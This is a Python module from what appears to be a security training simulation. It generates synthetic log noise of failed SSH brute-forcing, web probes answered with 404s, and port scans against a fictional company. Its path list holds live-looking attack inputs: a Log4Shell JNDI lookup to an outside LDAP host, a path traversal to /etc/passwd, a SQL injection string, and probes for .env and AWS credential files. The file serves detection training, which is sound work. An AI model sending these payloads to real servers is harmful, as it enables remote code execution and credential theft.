"""The weather of the internet: SSH guessing that never succeeds, probes for files that are not there, port scans."""

from __future__ import annotations

from bartizan.simulate.company.network import Flow
from bartizan.simulate.company.world import Company, Request
from bartizan.simulate.contract import Behaviour

__all__ = ["BEHAVIOUR"]

_NAMES = (
    "root",
    "admin",
    "test",
    "ubuntu",
    "oracle",
    "postgres",
    "git",
    "pi",
    "user",
    "ftpuser",
    "minecraft",
    "hadoop",
    "deploy",
    "backup",
)
_PATHS = (
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/wp-login.php",
    "/boaform/admin/formLogin",
    "/actuator/health",
    "/cgi-bin/luci",
    "/owa/auth/logon.aspx",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/?x=${{jndi:ldap://198.51.100.9/a}}",
    "/login.action",
    "/.aws/credentials",
    "/server-status",
    "/index.php?lang=../../../../etc/passwd",
    "/?id=1%27%20OR%20%271%27=%271",
)


def _act(company: Company) -> None:
    rng = company.rng("internet")
    web = company.linux["web-01"]
    for moment in company.clock.machines(rng, company.times(110)):
        address = f"203.0.113.{rng.randrange(100, 250)}"
        for turn in range(rng.choice((1, 2, 4, 8, 30))):
            name = rng.choice(_NAMES)
            peer = (address, company.network.port())
            web.refuse(moment + turn * 3.1, name, peer, known=name in web.accounts)
            company.network.connection(moment + turn * 3.1, Flow(*peer, "192.0.2.10", 22, "ssh", 2.4, 1400, 2100))
    for moment in company.clock.machines(rng, company.times(260)):
        address = f"203.0.113.{rng.randrange(100, 250)}"
        for turn in range(rng.choice((1, 1, 3, 12))):
            path = rng.choice(_PATHS).replace("{{", "{").replace("}}", "}")
            company.visit(
                moment + turn * 0.4,
                address,
                Request(
                    path, status=404, size=162, agent=rng.choice(("curl/7.88.1", "python-requests/2.31.0", "Mozilla/5.0 zgrab/0.x", "-"))
                ),
            )
        company.network.connection(moment, Flow(address, company.network.port(), "192.0.2.10", 443, "ssl", 1.0, 900, 2000))
    for moment in company.clock.machines(rng, company.times(60)):
        company.visit(
            moment,
            f"203.0.113.{rng.randrange(100, 250)}",
            Request("\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03", "", 400, 150, "-"),
        )
    for moment in company.clock.machines(rng, company.times(900)):
        target = rng.choice(("192.0.2.10", "192.0.2.20", "192.0.2.254"))
        company.network.connection(
            moment,
            Flow(
                f"203.0.113.{rng.randrange(100, 250)}",
                company.network.port(),
                target,
                rng.choice((23, 445, 3389, 8080, 5900, 6379, 22)),
                state=rng.choice(("S0", "REJ")),
            ),
        )


BEHAVIOUR = Behaviour(
    name="internet",
    title="Strangers guess SSH passwords and probe the web server, and get nowhere.",
    suspicion="a successful attack from outside",
    act=_act,
)
